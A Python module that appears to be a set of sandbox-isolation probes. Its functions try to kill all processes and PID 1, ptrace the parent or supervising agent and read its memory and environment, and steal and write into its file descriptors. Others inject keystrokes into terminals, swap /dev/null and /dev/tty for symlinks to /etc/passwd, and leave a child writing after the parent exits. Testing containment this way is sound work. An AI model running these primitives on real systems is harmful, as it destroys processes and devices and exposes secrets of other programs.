"""Getting at the agent, the result and the terminal."""

from __future__ import annotations

import ctypes
import fcntl
import os
import signal
import struct
import sys
import termios
from contextlib import suppress
from typing import Any

from dutyfree.probe.payload.kernel import call, name_of


def kill_all() -> dict[str, Any]:
    """Every signal to PID 1, then SIGKILL to everybody: this one ends us too where it may."""
    sys.stdout.write("trying\n")
    sys.stdout.flush()
    for number in sorted(signal.valid_signals()):
        for target in (1, os.getppid()):
            if target > 0:
                with suppress(OSError):
                    os.kill(target, number)
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError as error:
        return {"result": error.strerror}
    return {"result": "ok"}


def attack_agent(pids: list[int]) -> dict[str, Any]:
    """Trace PID 1 and our parent, read and write their memory, take their descriptors."""
    reached = []
    for pid in sorted({1, os.getppid(), *pids} - {0}):
        # PTRACE_SEIZE, PTRACE_ATTACH
        reached += [f"ptrace {pid}" for request in (0x4206, 16) if call("ptrace", request, pid, 0, 0) == 0]
        reached += [f"{name} of {pid}" for name in ("mem", "environ", "maps", "auxv") if _opens(pid, name)]
        buffer = ctypes.create_string_buffer(16)
        local = struct.pack("=QQ", ctypes.addressof(buffer), 16)
        remote = struct.pack("=QQ", 0x400000, 16)
        if call("process_vm_readv", pid, local, 1, remote, 1, 0) > 0:
            reached.append(f"memory of {pid}")
        reached += [f"descriptor {fd} of {pid}" for fd in _steal(pid)]
    return {"reached": reached}


def _opens(pid: int, name: str) -> bool:
    """Opened, and something is readable: the kernel checks some of these only at the read."""
    try:
        fd = os.open(f"/proc/{pid}/{name}", os.O_RDWR if name == "mem" else os.O_RDONLY)
    except OSError:
        return False
    try:
        return name == "mem" or bool(os.read(fd, 1))
    except OSError:
        return False
    finally:
        os.close(fd)


def _steal(pid: int) -> list[int]:
    """Descriptors of another process that we could get a copy of; what comes is written to."""
    pidfd = call("pidfd_open", pid, 0)
    got = []
    for number in range(64):
        fd = call("pidfd_getfd", pidfd, number, 0) if pidfd >= 0 else -1
        if fd < 0:
            try:
                fd = os.open(f"/proc/{pid}/fd/{number}", os.O_RDWR)
            except OSError:
                continue
        got.append(number)
        with suppress(OSError):
            os.write(fd, bytes(64))
        os.close(fd)
    return got


def speak(stdout_hex: str, stderr_hex: str, code: int) -> dict[str, Any]:
    """Exactly these bytes, this exit code, and nothing else."""
    os.write(1, bytes.fromhex(stdout_hex))
    os.write(2, bytes.fromhex(stderr_hex))
    os._exit(code)


def write_after_exit() -> dict[str, Any]:
    """A child keeps stdout and goes on writing when its parent is gone."""
    if os.fork() == 0:
        os.setsid()
        signal.alarm(20)
        while True:
            os.write(1, b"late\n")
    os.close(2)
    os.write(1, b"parent\n")
    os._exit(7)


def type_into_terminal() -> dict[str, Any]:
    """TIOCSTI: characters that the next reader of the terminal takes for typed."""
    results = {}
    for path in ("/dev/tty", "/proc/self/fd/0", "/dev/console", "/dev/tty1"):
        try:
            fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
        except OSError as error:
            results[path] = error.strerror
            continue
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, b"x")
            results[path] = "ok"
        except OSError as error:
            results[path] = error.strerror
        finally:
            os.close(fd)
    return {"typed": [path for path, result in results.items() if result == "ok"], "results": results}


def swap_null() -> dict[str, Any]:
    """Replace what the next command's start opens."""
    done = []
    for path in ("/dev/null", "/dev/tty", "/dev/pts/ptmx", "/dev/ptmx"):
        for work in (os.unlink, lambda name: os.rename(name, name + ".old")):
            try:
                work(path)
            except OSError:
                continue
            os.symlink("/etc/passwd", path)
            done.append(path)
            break
    return {"swapped": done}


def euid() -> dict[str, Any]:
    """Who we effectively are."""
    return {"euid": os.geteuid(), "uid": os.getuid(), "setuid": name_of(0)}


ATTEMPTS = {
    "kill-all": kill_all,
    "attack-agent": attack_agent,
    "speak": speak,
    "write-after-exit": write_after_exit,
    "type-into-terminal": type_into_terminal,
    "swap-null": swap_null,
    "euid": euid,
}
